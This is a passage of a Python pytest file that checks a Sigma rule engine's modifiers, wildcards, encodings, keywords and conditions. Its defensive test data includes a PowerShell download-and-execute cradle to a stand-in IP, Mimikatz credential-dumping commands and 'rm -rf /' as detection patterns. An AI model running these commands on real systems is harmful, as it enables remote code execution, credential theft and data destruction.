"""The Sigma engine against the Sigma specification: every value modifier, wildcards and their
escapes, keywords, conditions, field values of every shape, filters and rule selection.

Rules are YAML text loaded with ``load_rules`` (as a user's rule folder is); events are built
the way the readers build them. Each case names the specification's rule it checks.
"""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from shieldwall.detect.alerts import Level
from shieldwall.detect.engine import CompileReport, Engine, Selection, compile_rules
from shieldwall.detect.events import Event, EventSource, LogFormat, LogSource
from shieldwall.detect.readers.windows import windows_logsource
from shieldwall.detect.sigma import load_rules

SYSMON = "Microsoft-Windows-Sysmon/Operational"
T0 = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
RULE_ID = "0b1e7a52-3c0f-4d5e-9a55-6f2f3c1d0001"


# ---------------------------------------------------------------------------------------------
# Builders


def rule(
    detection: str,
    *,
    rule_id: str = RULE_ID,
    title: str = "Test rule",
    logsource: str = "product: windows\n  category: process_creation",
    level: str = "medium",
    status: str = "test",
    tags: tuple[str, ...] = (),
    name: str | None = None,
) -> str:
    """A Sigma rule document; ``detection`` is the body of its ``detection:`` map."""
    body = textwrap.indent(textwrap.dedent(detection).strip("\n"), "  ")
    lines = [f"title: {title}", f"id: {rule_id}"]
    if name:
        lines.append(f"name: {name}")
    lines += [f"status: {status}", f"logsource:\n  {logsource}", f"detection:\n{body}"]
    lines.append(f"level: {level}")
    if tags:
        lines.append("tags:\n" + "".join(f"  - {t}\n" for t in tags).rstrip("\n"))
    return "\n".join(lines) + "\n"


def compile_docs(
    tmp_path: Path, *docs: str, selection: Selection | None = None
) -> tuple[Engine, CompileReport]:
    """Write the documents as a rule folder, load and compile it; every rule must load."""
    root = tmp_path / f"rules{sum(1 for _ in tmp_path.iterdir())}"
    root.mkdir()
    for index, doc in enumerate(docs):
        (root / f"rule_{index}.yml").write_text(doc, encoding="utf-8")
    load = load_rules(root)
    assert load.failures == [], load.failures
    engine, report = compile_rules(load, selection or Selection())
    assert report.failures == [], report.failures
    return engine, report


def windows(
    fields: Mapping[str, Any],
    *,
    channel: str = SYSMON,
    event_id: int = 1,
    host: str = "WS1",
    record: int = 1,
    at: datetime = T0,
) -> Event:
    """A Windows event as the EVTX reader makes it (System values among the fields)."""
    full: dict[str, Any] = {"EventID": event_id, "Channel": channel, "Computer": host}
    full.update(fields)
    return Event(
        timestamp=at,
        host=host,
        format=LogFormat.EVTX,
        logsource=windows_logsource(channel),
        source=EventSource(file="events.evtx", record=record),
        channel=channel,
        event_id=event_id,
        fields=full,
    )


def fires(tmp_path: Path, detection: str, fields: Mapping[str, Any], **kw: Any) -> bool:
    """Whether one process-creation rule with ``detection`` alerts on one Sysmon 1 event."""
    selection = kw.pop("selection", None)
    engine, _ = compile_docs(tmp_path, rule(detection, **kw), selection=selection)
    return bool(engine.match(windows(fields)))


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# ---------------------------------------------------------------------------------------------
# Plain values, wildcards and escapes (spec: "General", "String Wildcard", "Escaping")

WHOAMI = r"C:\Windows\System32\whoami.exe"


@pytest.mark.parametrize(
    ("detection", "image", "expected"),
    [
        # values are case-insensitive strings by default; a plain value is an exact match
        (r"sel: {Image: 'C:\Windows\System32\whoami.exe'}", WHOAMI.upper(), True),
        (r"sel: {Image: 'C:\Windows\System32\whoami.exe'}", WHOAMI + "x", False),
        (r"sel: {Image: 'whoami.exe'}", WHOAMI, False),
        # contains / startswith / endswith
        (r"sel: {Image|contains: '\SYSTEM32\'}", WHOAMI, True),
        (r"sel: {Image|contains: '\SysWOW64\'}", WHOAMI, False),
        (r"sel: {Image|startswith: 'c:\windows\'}", WHOAMI, True),
        (r"sel: {Image|startswith: 'System32'}", WHOAMI, False),
        (r"sel: {Image|endswith: '\WHOAMI.EXE'}", WHOAMI, True),
        (r"sel: {Image|endswith: '\whoami'}", WHOAMI, False),
        # * and ? in the middle of a value
        (r"sel: {Image: 'C:\Windows\\*\whoami.exe'}", WHOAMI, True),
        (r"sel: {Image: 'C:\Windows\\*\whoami.exe'}", r"C:\Temp\System32\whoami.exe", False),
        (r"sel: {Image: 'C:\Windows\System3?\whoami.exe'}", WHOAMI, True),
        (
            r"sel: {Image: 'C:\Windows\System3?\whoami.exe'}",
            r"C:\Windows\System3\whoami.exe",
            False,
        ),
        (
            r"sel: {Image: 'C:\Windows\System3?\whoami.exe'}",
            r"C:\Windows\System322\whoami.exe",
            False,
        ),
        (r"sel: {Image: '*\whoami.???'}", WHOAMI, True),
        (r"sel: {Image: '*'}", "", True),
        # escaped wildcards are plain characters
        (r"sel: {Image: 'C:\a\*b.exe'}", r"C:\a*b.exe", True),
        (r"sel: {Image: 'C:\a\*b.exe'}", r"C:\axyzb.exe", False),
        (r"sel: {Image: 'what\?.exe'}", "what?.exe", True),
        (r"sel: {Image: 'what\?.exe'}", "whatX.exe", False),
        # an escaped backslash before a wildcard: a backslash, then the wildcard
        (r"sel: {Image: 'C:\dir\\*'}", r"C:\dir\anything.exe", True),
        (r"sel: {Image: 'C:\dir\\*'}", r"C:\dirX", False),
        # three backslashes: a plain backslash and a plain star
        (r"sel: {Image: 'C:\dir\\\*'}", "C:\\dir\\*", True),
        (r"sel: {Image: 'C:\dir\\\*'}", r"C:\dir\x", False),
        # a value list is OR
        (r"sel: {Image|endswith: ['\cmd.exe', '\whoami.exe']}", WHOAMI, True),
        (r"sel: {Image|endswith: ['\cmd.exe', '\net.exe']}", WHOAMI, False),
    ],
)
def test_string_values(tmp_path: Path, detection: str, image: str, expected: bool) -> None:
    assert fires(tmp_path, detection + "\ncondition: sel", {"Image": image}) is expected


def test_long_value_lists_of_every_shape(tmp_path: Path) -> None:
    """Enough values of one field to take the engine's automaton and set paths, mixed."""
    detection = r"""
    sel:
      CommandLine|contains: ['mimikatz', 'sekurlsa', 'lsadump', 'kerberos::', 'dpapi::', 'vault::']
    other:
      Image|endswith: ['\a.exe', '\b.exe', '\c.exe', '\d.exe', '\e.exe']
    exact:
      Image: ['x.exe', 'y.exe', 'z.exe', 'w.exe', 'v.exe', 'C:\T\\?.exe']
    condition: 1 of them
    """
    engine, _ = compile_docs(tmp_path, rule(detection))
    cases = [
        ({"CommandLine": "run KERBEROS::list now"}, True),
        ({"CommandLine": "privilege::debug"}, False),
        ({"Image": r"C:\tools\E.EXE"}, True),
        ({"Image": r"C:\tools\f.exe"}, False),
        ({"Image": "W.exe"}, True),
        ({"Image": r"C:\T\q.exe"}, True),
        ({"Image": r"C:\T\qq.exe"}, False),
    ]
    assert [bool(engine.match(windows(f))) for f, _ in cases] == [want for _, want in cases]


@pytest.mark.parametrize(
    ("values", "command_line", "expected"),
    [
        ("['-enc', 'hidden']", "powershell -w HIDDEN -enc AAAA", True),
        ("['-enc', 'hidden']", "powershell -enc AAAA", False),
        ("['-enc', 'hidden']", "powershell -w hidden", False),
        # all with a single value (the spec discourages it, pySigma accepts it)
        ("['-enc']", "powershell -enc AAAA", True),
        ("['-enc']", "powershell", False),
    ],
)
def test_all_modifier(tmp_path: Path, values: str, command_line: str, expected: bool) -> None:
    detection = f"sel: {{CommandLine|contains|all: {values}}}\ncondition: sel"
    assert fires(tmp_path, detection, {"CommandLine": command_line}) is expected


# ---------------------------------------------------------------------------------------------
# re and its flags (spec: "Regular Expression")


@pytest.mark.parametrize(
    ("detection", "value", "expected"),
    [
        # unanchored, and case-sensitive unless |i
        (r"sel: {CommandLine|re: 'Invoke-\w+Shell'}", "x Invoke-PowerShell y", True),
        (r"sel: {CommandLine|re: 'Invoke-\w+Shell'}", "x invoke-powershell y", False),
        (r"sel: {CommandLine|re|i: 'Invoke-\w+Shell'}", "x invoke-powershell y", True),
        (r"sel: {CommandLine|re: '^cmd'}", "xcmd", False),
        (r"sel: {CommandLine|re: '\.exe$'}", "a.exe", True),
        # m: ^ and $ at every line
        (r"sel: {CommandLine|re: '^second$'}", "first\nsecond\nthird", False),
        (r"sel: {CommandLine|re|m: '^second$'}", "first\nsecond\nthird", True),
        # s: the dot also matches a newline
        (r"sel: {CommandLine|re: 'first.second'}", "first\nsecond", False),
        (r"sel: {CommandLine|re|s: 'first.second'}", "first\nsecond", True),
        # several values OR
        (r"sel: {CommandLine|re: ['^nope', 'b+c']}", "abbbc", True),
        # a regular expression on a number field reads its text
        (r"sel: {ProcessId|re: '^4\d\d$'}", 412, True),
    ],
)
def test_regular_expressions(tmp_path: Path, detection: str, value: Any, expected: bool) -> None:
    field = "ProcessId" if "ProcessId" in detection else "CommandLine"
    assert fires(tmp_path, detection + "\ncondition: sel", {field: value}) is expected


@pytest.mark.parametrize(
    ("modifier", "value", "expected"),
    [
        ("startswith", "abc-tail", True),
        ("startswith", "x-abc", False),
        ("endswith", "x-abc", True),
        ("endswith", "abc-tail", False),
        ("contains", "x-abc-y", True),
    ],
)
def test_regular_expression_with_position_modifiers(
    tmp_path: Path, modifier: str, value: str, expected: bool
) -> None:
    """pySigma lets ``re`` take startswith/endswith/contains: the regex must then match at the
    start / at the end / anywhere of the value."""
    detection = f"sel: {{CommandLine|re|{modifier}: 'ab+c'}}\ncondition: sel"
    assert fires(tmp_path, detection, {"CommandLine": value}) is expected


# ---------------------------------------------------------------------------------------------
# cidr (spec: "IP Modifiers")


@pytest.mark.parametrize(
    ("cidr", "ip", "expected"),
    [
        ("10.0.0.0/8", "10.20.30.40", True),
        ("10.0.0.0/8", "11.0.0.1", False),
        ("192.168.1.0/24", "192.168.1.255", True),
        ("192.168.1.0/24", "192.168.2.1", False),
        ("2001:db8::/32", "2001:DB8:0:1::5", True),
        ("2001:db8::/32", "2001:db9::1", False),
        # Windows writes IPv4 peers of dual-stack sockets as IPv4-mapped IPv6 (4624's
        # IpAddress "::ffff:10.1.2.3"); it is the IPv4 address (Elasticsearch's cidr agrees)
        ("10.0.0.0/8", "::ffff:10.1.2.3", True),
        ("10.0.0.0/8", "::ffff:11.1.2.3", False),
        ("10.0.0.0/8", "not-an-ip", False),
        ("10.0.0.0/8", "", False),
        ("10.0.0.0/8", "10.0.0", False),
    ],
)
def test_cidr(tmp_path: Path, cidr: str, ip: str, expected: bool) -> None:
    detection = f"sel: {{DestinationIp|cidr: '{cidr}'}}\ncondition: sel"
    assert fires(tmp_path, detection, {"DestinationIp": ip}) is expected


def test_cidr_list_is_or_and_a_missing_field_does_not_match(tmp_path: Path) -> None:
    detection = "sel: {DestinationIp|cidr: ['10.0.0.0/8', '172.16.0.0/12']}\ncondition: sel"
    engine, _ = compile_docs(tmp_path, rule(detection))
    assert engine.match(windows({"DestinationIp": "172.20.1.1"}))
    assert not engine.match(windows({"DestinationIp": "8.8.8.8"}))
    assert not engine.match(windows({"SourceIp": "10.0.0.1"}))


# ---------------------------------------------------------------------------------------------
# windash, base64, base64offset, utf16 variants (spec: "String Modifiers", "Encoding")

DASHES = {"hyphen": "-", "slash": "/", "en": "\u2013", "em": "\u2014", "bar": "\u2015"}


@pytest.mark.parametrize("dash", DASHES.values(), ids=DASHES.keys())
def test_windash_matches_every_dash(tmp_path: Path, dash: str) -> None:
    detection = "sel: {CommandLine|windash|contains: ' -encodedcommand '}\ncondition: sel"
    assert fires(tmp_path, detection, {"CommandLine": f"powershell {dash}EncodedCommand AAAA"})


def test_windash_does_not_match_other_characters(tmp_path: Path) -> None:
    detection = "sel: {CommandLine|windash|contains: ' -encodedcommand '}\ncondition: sel"
    assert not fires(tmp_path, detection, {"CommandLine": "powershell +EncodedCommand AAAA"})


def test_base64(tmp_path: Path) -> None:
    encoded = b64(b"whoami /all")
    exact = "sel: {CommandLine|base64: 'whoami /all'}\ncondition: sel"
    assert fires(tmp_path, exact, {"CommandLine": encoded})
    assert not fires(tmp_path, exact, {"CommandLine": f"cmd {encoded}"})
    inside = "sel: {CommandLine|base64|contains: 'whoami /all'}\ncondition: sel"
    assert fires(tmp_path, inside, {"CommandLine": f"cmd {encoded} x"})
    assert not fires(tmp_path, inside, {"CommandLine": "cmd whoami /all"})


SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"


@pytest.mark.parametrize("shift", [0, 1, 2, 3, 4, 5])
def test_base64offset_finds_the_value_at_every_offset(tmp_path: Path, shift: int) -> None:
    payload = b64(("x" * shift + SCRIPT).encode())
    detection = "sel: {CommandLine|base64offset|contains: 'Net.WebClient'}\ncondition: sel"
    assert fires(tmp_path, detection, {"CommandLine": f"powershell -enc {payload}"})


def test_base64offset_does_not_match_other_payloads(tmp_path: Path) -> None:
    detection = "sel: {CommandLine|base64offset|contains: 'Net.WebClient'}\ncondition: sel"
    other = b64(b"IEX (New-Object System.Net.Sockets.TCPClient)")
    assert not fires(tmp_path, detection, {"CommandLine": f"powershell -enc {other}"})
    plain = "powershell IEX (New-Object Net.WebClient)"
    assert not fires(tmp_path, detection, {"CommandLine": plain})


@pytest.mark.parametrize(
    ("modifier", "encoding"),
    [("wide", "utf-16le"), ("utf16le", "utf-16le"), ("utf16be", "utf-16be")],
)
@pytest.mark.parametrize("shift", [0, 1, 2])
def test_utf16_base64offset(tmp_path: Path, modifier: str, encoding: str, shift: int) -> None:
    """PowerShell's -EncodedCommand is base64 of UTF-16LE: SigmaHQ writes
    ``CommandLine|utf16le|base64offset|contains`` (``wide`` is its older alias)."""
    payload = b64(("y" * shift + SCRIPT).encode(encoding))
    detection = f"sel: {{CommandLine|{modifier}|base64offset|contains: 'Net.WebClient'}}"
    assert fires(tmp_path, detection + "\ncondition: sel", {"CommandLine": f"pwsh -e {payload}"})
    # the same text in UTF-8 is not a match of a UTF-16 rule
    utf8 = b64(("y" * shift + SCRIPT).encode())
    assert not fires(tmp_path, detection + "\ncondition: sel", {"CommandLine": f"pwsh -e {utf8}"})


def test_utf16_with_byte_order_mark(tmp_path: Path) -> None:
    payload = b64(b"\xff\xfe" + SCRIPT.encode("utf-16le"))
    detection = "sel: {CommandLine|utf16|base64offset|contains: 'IEX (New'}\ncondition: sel"
    assert fires(tmp_path, detection, {"CommandLine": f"pwsh -e {payload}"})
    no_bom = b64(SCRIPT.encode("utf-16le"))
    assert not fires(tmp_path, detection, {"CommandLine": f"pwsh -e {no_bom}"})


# ---------------------------------------------------------------------------------------------
# fieldref, exists, null, booleans (spec: "Specific Modifiers", "Field Existence",
# "Special Field Values")


@pytest.mark.parametrize(
    ("modifiers", "fields", "expected"),
    [
        ("fieldref", {"TargetUserName": "Admin", "SubjectUserName": "admin"}, True),
        ("fieldref", {"TargetUserName": "admin", "SubjectUserName": "bob"}, False),
        ("fieldref", {"TargetUserName": "admin"}, False),
        ("fieldref|startswith", {"TargetUserName": "admin$x", "SubjectUserName": "admin"}, True),
        ("fieldref|startswith", {"TargetUserName": "x$admin", "SubjectUserName": "admin"}, False),
        ("fieldref|endswith", {"TargetUserName": "x$admin", "SubjectUserName": "admin"}, True),
        ("fieldref|endswith", {"TargetUserName": "admin$x", "SubjectUserName": "admin"}, False),
        ("fieldref|contains", {"TargetUserName": "x-admin-y", "SubjectUserName": "admin"}, True),
        ("fieldref|contains", {"TargetUserName": "x-adm-y", "SubjectUserName": "admin"}, False),
    ],
)
def test_fieldref(tmp_path: Path, modifiers: str, fields: dict[str, str], expected: bool) -> None:
    detection = f"sel: {{TargetUserName|{modifiers}: SubjectUserName}}\ncondition: sel"
    assert fires(tmp_path, detection, fields) is expected


@pytest.mark.parametrize(
    ("wanted", "fields", "expected"),
    [
        ("true", {"PasswordLastSet": "2024-01-01"}, True),
        ("true", {"PasswordLastSet": ""}, True),
        ("true", {}, False),
        ("false", {}, True),
        ("false", {"PasswordLastSet": "-"}, False),
    ],
)
def test_exists(tmp_path: Path, wanted: str, fields: dict[str, Any], expected: bool) -> None:
    detection = f"sel: {{PasswordLastSet|exists: {wanted}}}\ncondition: sel"
    assert fires(tmp_path, detection, fields) is expected


def test_exists_checks_presence_not_value(tmp_path: Path) -> None:
    """Spec (modifiers appendix): "this check only verifies the presence of a field, not its
    value, be it empty or null" -- a JSON ``null`` is a present field."""
    present = "sel: {PasswordLastSet|exists: true}\ncondition: sel"
    assert fires(tmp_path, present, {"PasswordLastSet": None})
    absent = "sel: {PasswordLastSet|exists: false}\ncondition: sel"
    assert not fires(tmp_path, absent, {"PasswordLastSet": None})


@pytest.mark.parametrize(
    ("fields", "expected"),
    [({}, True), ({"PasswordLastSet": None}, True), ({"PasswordLastSet": "2024-01-01"}, False)],
)
def test_null(tmp_path: Path, fields: dict[str, Any], expected: bool) -> None:
    detection = "sel: {PasswordLastSet: null}\ncondition: sel"
    assert fires(tmp_path, detection, fields) is expected


def test_not_null_is_a_negated_selection(tmp_path: Path) -> None:
    """Spec: "To get an expression that say `not null` ... negate it in the condition"."""
    detection = """
    selection: {EventID: 1}
    filter: {PasswordLastSet: null}
    condition: selection and not filter
    """
    assert fires(tmp_path, detection, {"PasswordLastSet": "2024-01-01"})
    assert not fires(tmp_path, detection, {})


@pytest.mark.parametrize(
    ("value", "expected"), [(True, True), ("true", True), ("TRUE", True), (False, False)]
)
def test_boolean_values(tmp_path: Path, value: Any, expected: bool) -> None:
    assert fires(tmp_path, "sel: {Signed: true}\ncondition: sel", {"Signed": value}) is expected


# ---------------------------------------------------------------------------------------------
# expand placeholders (spec: "Placeholders")


def test_expand_with_placeholder_values(tmp_path: Path) -> None:
    detection = "sel: {User|expand: '%Administrators%'}\ncondition: sel"
    placeholders = Selection(placeholders={"Administrators": ["CORP\\admin", "CORP\\root"]})
    engine, report = compile_docs(tmp_path, rule(detection), selection=placeholders)
    assert engine.match(windows({"User": "corp\\ROOT"}))
    assert not engine.match(windows({"User": "CORP\\bob"}))
    assert report.placeholders == {}


def test_expand_placeholder_inside_a_value(tmp_path: Path) -> None:
    detection = "sel: {Computer|expand: 'srv-%Site%-*'}\ncondition: sel"
    selection = Selection(placeholders={"Site": ["ams", "fra"]})
    engine, _ = compile_docs(tmp_path, rule(detection), selection=selection)
    assert engine.match(windows({}, host="SRV-fra-01"))
    assert not engine.match(windows({}, host="srv-lon-01"))


def test_expand_without_values_is_a_wildcard_and_is_reported(tmp_path: Path) -> None:
    detection = "sel: {Computer|expand: '%Servers%.corp.example'}\ncondition: sel"
    engine, report = compile_docs(tmp_path, rule(detection))
    assert engine.match(windows({}, host="db1.corp.example"))
    assert not engine.match(windows({}, host="db1.other.example"))
    assert report.placeholders == {"Servers": [RULE_ID]}
    assert report.to_json()["placeholders_as_wildcards"] == {"Servers": [RULE_ID]}


def test_a_percent_value_without_expand_is_literal(tmp_path: Path) -> None:
    """Spec: "`field: %name%` handles `%name%` as literal value"."""
    detection = "sel: {User: '%Administrators%'}\ncondition: sel"
    assert fires(tmp_path, detection, {"User": "%administrators%"})
    assert not fires(tmp_path, detection, {"User": "root"})


# ---------------------------------------------------------------------------------------------
# numbers (spec: "Numeric Modifiers") and integer / string field values


@pytest.mark.parametrize(
    ("modifier", "value", "expected"),
    [
        ("gt", 4, True),
        ("gt", 3, False),
        ("gte", 3, True),
        ("gte", "3", True),
        ("gte", 2, False),
        ("lt", "2", True),
        ("lt", 3, False),
        ("lte", 3, True),
        ("lte", "4", False),
        ("gt", "0x10", True),  # hexadecimal text, as Windows writes many numbers
        ("gt", "many", False),
        ("gt", "", False),
        ("gt", None, False),
        ("lt", True, False),  # a boolean is not a number
    ],
)
def test_numeric_comparisons(tmp_path: Path, modifier: str, value: Any, expected: bool) -> None:
    detection = f"sel: {{LogonType|{modifier}: 3}}\ncondition: sel"
    assert fires(tmp_path, detection, {"LogonType": value}) is expected


@pytest.mark.parametrize("rule_value", ["4688", "'4688'"], ids=["number", "string"])
@pytest.mark.parametrize("event_value", [4688, "4688"], ids=["int", "str"])
def test_event_id_as_int_and_as_string(tmp_path: Path, rule_value: str, event_value: Any) -> None:
    detection = f"sel: {{EventID: {rule_value}, NewProcessName|endswith: '\\whoami.exe'}}"
    engine, _ = compile_docs(
        tmp_path,
        rule(detection + "\ncondition: sel", logsource="product: windows\n  service: security"),
    )
    event = windows(
        {"EventID": event_value, "NewProcessName": WHOAMI}, channel="Security", event_id=4688
    )
    assert engine.match(event)
    other = windows({"EventID": 4624, "NewProcessName": WHOAMI}, channel="Security", event_id=4624)
    assert not engine.match(other)


def test_event_id_list(tmp_path: Path) -> None:
    detection = "sel: {EventID: [4624, 4625]}\ncondition: sel"
    engine, _ = compile_docs(
        tmp_path, rule(detection, logsource="product: windows\n  service: security")
    )
    hits = [
        bool(engine.match(windows({}, channel="Security", event_id=i))) for i in (4624, 4625, 4634)
    ]
    assert hits == [True, True, False]


def test_number_value_on_other_fields(tmp_path: Path) -> None:
    detection = "sel: {LogonType: 10}\ncondition: sel"
    assert fires(tmp_path, detection, {"LogonType": 10})
    assert fires(tmp_path, detection, {"LogonType": "10"})
    assert not fires(tmp_path, detection, {"LogonType": 2})
    assert not fires(tmp_path, detection, {"LogonType": "100"})


def test_neq(tmp_path: Path) -> None:
    """Spec v2.1: ``neq`` -- the field differs from the value (string or number)."""
    detection = "sel: {EventID: 1, User|neq: 'NT AUTHORITY\\SYSTEM'}\ncondition: sel"
    assert fires(tmp_path, detection, {"User": "CORP\\bob"})
    assert not fires(tmp_path, detection, {"User": "nt authority\\system"})


# ---------------------------------------------------------------------------------------------
# cased (spec: "Generic Modifiers")


@pytest.mark.parametrize(
    ("detection", "value", "expected"),
    [
        ("sel: {CommandLine|cased: 'Invoke-Mimikatz'}", "Invoke-Mimikatz", True),
        ("sel: {CommandLine|cased: 'Invoke-Mimikatz'}", "invoke-mimikatz", False),
        ("sel: {CommandLine|contains|cased: 'DumpCreds'}", "x -DumpCreds y", True),
        ("sel: {CommandLine|contains|cased: 'DumpCreds'}", "x -dumpcreds y", False),
        ("sel: {CommandLine|startswith|cased: ['Get-', 'Set-']}", "Set-Item", True),
        ("sel: {CommandLine|startswith|cased: ['Get-', 'Set-']}", "set-Item", False),
    ],
)
def test_cased(tmp_path: Path, detection: str, value: str, expected: bool) -> None:
    assert fires(tmp_path, detection + "\ncondition: sel", {"CommandLine": value}) is expected


def test_cased_and_uncased_values_of_one_field_in_one_rule(tmp_path: Path) -> None:
    detection = """
    a: {CommandLine|contains|cased: 'Mimikatz'}
    b: {CommandLine|contains: 'SEKURLSA'}
    condition: a or b
    """
    engine, _ = compile_docs(tmp_path, rule(detection))
    assert engine.match(windows({"CommandLine": "Mimikatz"}))
    assert engine.match(windows({"CommandLine": "sekurlsa::x"}))
    assert not engine.match(windows({"CommandLine": "mimikatz"}))


# ---------------------------------------------------------------------------------------------
# keywords (spec: "Keywords search", "Lists")


def syslog_event(line: str, *, fields: Mapping[str, Any] | None = None) -> Event:
    return Event(
        timestamp=T0,
        host="web1",
        format=LogFormat.SYSLOG,
        logsource=LogSource(product="linux", service="syslog"),
        source=EventSource(file="syslog", record=1),
        fields={"_raw": line, **(fields or {})},
    )


LINUX = "product: linux\n  service: syslog"


@pytest.mark.parametrize(
    ("keywords", "line", "expected"),
    [
        ("['Segfault']", "kernel: app[12]: segfault at 0 ip", True),
        ("['segfault', 'general protection']", "kernel: General Protection fault", True),
        ("['segfault']", "kernel: all fine", False),
        ("['*rm -rf /*']", "bash: rm -rf / --no-preserve-root", True),
        ("['rm -rf /tmp?x']", "cmd: rm -rf /tmp/x done", True),
        ("['rm -rf /tmp?x']", "cmd: rm -rf /tmpx", False),
        ("['*']", "anything", True),
    ],
)
def test_keywords_search_the_raw_line(
    tmp_path: Path, keywords: str, line: str, expected: bool
) -> None:
    engine, _ = compile_docs(tmp_path, rule(f"kw: {keywords}\ncondition: kw", logsource=LINUX))
    assert bool(engine.match(syslog_event(line))) is expected


def test_keywords_all(tmp_path: Path) -> None:
    detection = """
    kw:
      '|all': ['OabVirtualDirectory', ' -ExternalUrl ']
    condition: kw
    """
    engine, _ = compile_docs(tmp_path, rule(detection, logsource=LINUX))
    assert engine.match(syslog_event("Set-OabVirtualDirectory -ExternalUrl 'http://x'"))
    assert not engine.match(syslog_event("Set-OabVirtualDirectory -InternalUrl 'http://x'"))


def test_keywords_without_a_raw_line_search_every_field(tmp_path: Path) -> None:
    """Windows events have no raw text line: a keyword is looked for in every field value
    (strings, numbers, list items)."""
    engine, _ = compile_docs(tmp_path, rule("kw: ['sekurlsa::logonpasswords']\ncondition: kw"))
    assert engine.match(windows({"CommandLine": "mimikatz SEKURLSA::LogonPasswords exit"}))
    assert engine.match(windows({"Details": ["a", "x sekurlsa::logonpasswords"]}))
    assert not engine.match(windows({"CommandLine": "mimikatz privilege::debug"}))
    numbers, _ = compile_docs(tmp_path, rule("kw: ['31337']\ncondition: kw"))
    assert numbers.match(windows({"DestinationPort": 31337}))


def test_cased_and_uncased_keywords_in_one_run(tmp_path: Path) -> None:
    """A case-folded keyword rule must not change what a cased one sees on the same event."""
    second = "1d4b6c6e-2a11-4c0a-8f43-3b5d2e9a0002"
    engine, _ = compile_docs(
        tmp_path,
        rule("kw: ['foo']\ncondition: kw"),
        rule("kw: {'|cased': 'Foo'}\ncondition: kw", rule_id=second),
    )
    assert {a.rule.id for a in engine.match(windows({"Message": "Foo bar"}))} == {RULE_ID, second}
    assert {a.rule.id for a in engine.match(windows({"Message": "foo bar"}))} == {RULE_ID}


def test_keywords_and_fields_together(tmp_path: Path) -> None:
    detection = """
    kw: ['failed password']
    sel: {host_is_bastion: 'yes'}
    condition: kw and not sel
    """
    engine, _ = compile_docs(tmp_path, rule(detection, logsource=LINUX))
    assert engine.match(syslog_event("sshd[1]: Failed password for root"))
    assert not engine.match(
        syslog_event("sshd[1]: Failed password for root", fields={"host_is_bastion": "yes"})
    )


# ---------------------------------------------------------------------------------------------
# conditions (spec: "Condition")


def condition_engine(tmp_path: Path, condition: str) -> Engine:
    detection = f"""
    selection_a: {{CommandLine|contains: 'alpha'}}
    selection_b: {{CommandLine|contains: 'beta'}}
    filter_c: {{CommandLine|contains: 'gamma'}}
    _aux: {{CommandLine|contains: 'delta'}}
    condition: {condition}
    """
    engine, _ = compile_docs(tmp_path, rule(detection))
    return engine


WORDS = ["alpha", "beta", "gamma", "delta"]


def truth(engine: Engine) -> list[set[str]]:
    """Which of every combination of the four words fire."""
    fired = []
    for mask in range(16):
        words = {w for i, w in enumerate(WORDS) if mask >> i & 1}
        if engine.match(windows({"CommandLine": " ".join(sorted(words)) or "none"})):
            fired.append(words)
    return fired


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("selection_a", lambda w: "alpha" in w),
        ("not selection_a", lambda w: "alpha" not in w),
        ("selection_a and selection_b", lambda w: {"alpha", "beta"} <= w),
        ("selection_a or selection_b", lambda w: bool({"alpha", "beta"} & w)),
        # precedence: not > and > or
        (
            "selection_a or selection_b and not filter_c",
            lambda w: "alpha" in w or ("beta" in w and "gamma" not in w),
        ),
        (
            "(selection_a or selection_b) and not filter_c",
            lambda w: bool({"alpha", "beta"} & w) and "gamma" not in w,
        ),
        ("not (selection_a or filter_c)", lambda w: not ({"alpha", "gamma"} & w)),
        ("1 of selection_*", lambda w: bool({"alpha", "beta"} & w)),
        ("all of selection_*", lambda w: {"alpha", "beta"} <= w),
        (
            "1 of selection_* and not 1 of filter_*",
            lambda w: bool({"alpha", "beta"} & w) and "gamma" not in w,
        ),
        # "them" leaves out identifiers starting with an underscore
        ("1 of them", lambda w: bool({"alpha", "beta", "gamma"} & w)),
        ("all of them", lambda w: {"alpha", "beta", "gamma"} <= w),
        ("_aux and selection_a", lambda w: {"alpha", "delta"} <= w),
        ("1 of *_a or 1 of *_c", lambda w: bool({"alpha", "gamma"} & w)),
    ],
)
def test_conditions(tmp_path: Path, condition: str, expected: Any) -> None:
    engine = condition_engine(tmp_path, condition)
    everything = [{w for i, w in enumerate(WORDS) if mask >> i & 1} for mask in range(16)]
    assert truth(engine) == [w for w in everything if expected(w)]


def test_several_conditions_are_or(tmp_path: Path) -> None:
    """Spec: "The condition can be a list ... They are logically linked with OR"."""
    engine = condition_engine(tmp_path, "\n    - selection_a and filter_c\n    - selection_b")
    assert truth(engine) == [
        w
        for w in ({x for i, x in enumerate(WORDS) if m >> i & 1} for m in range(16))
        if {"alpha", "gamma"} <= w or "beta" in w
    ]


def test_map_is_and_and_list_of_maps_is_or(tmp_path: Path) -> None:
    detection = r"""
    sel:
      - Image|endswith: '\powershell.exe'
        CommandLine|contains: ' -enc '
      - Image|endswith: '\cmd.exe'
      - OriginalFileName: ['PowerShell.EXE', 'pwsh.dll']
        ParentImage|endswith: '\winword.exe'
    condition: sel
    """
    engine, _ = compile_docs(tmp_path, rule(detection))
    cases = [
        ({"Image": r"C:\x\powershell.exe", "CommandLine": "powershell -enc AA"}, True),
        ({"Image": r"C:\x\powershell.exe", "CommandLine": "powershell -c AA"}, False),
        ({"Image": r"C:\x\cmd.exe"}, True),
        ({"OriginalFileName": "pwsh.dll", "ParentImage": r"C:\o\WINWORD.EXE"}, True),
        ({"OriginalFileName": "pwsh.dll", "ParentImage": r"C:\o\excel.exe"}, False),
        ({"CommandLine": "powershell -enc AA"}, False),
    ]
    assert [bool(engine.match(windows(f))) for f, _ in cases] == [want for _, want in cases]


# ---------------------------------------------------------------------------------------------
# lists in field values (JSON arrays), integers in string matches


def test_list_field_values_match_any_item(tmp_path: Path) -> None:
    contains = "sel: {Hashes|contains: 'MD5=ABC'}\ncondition: sel"
    assert fires(tmp_path, contains, {"Hashes": ["SHA1=00", "md5=abc123"]})
    assert not fires(tmp_path, contains, {"Hashes": ["SHA1=00", "SHA256=abc"]})
    assert not fires(tmp_path, contains, {"Hashes": []})
    exact = "sel: {Tags: 'persistence'}\ncondition: sel"
    assert fires(tmp_path, exact, {"Tags": ["Discovery", "Persistence"]})
    every = "sel: {Tags|all: ['discovery', 'persistence']}\ncondition: sel"
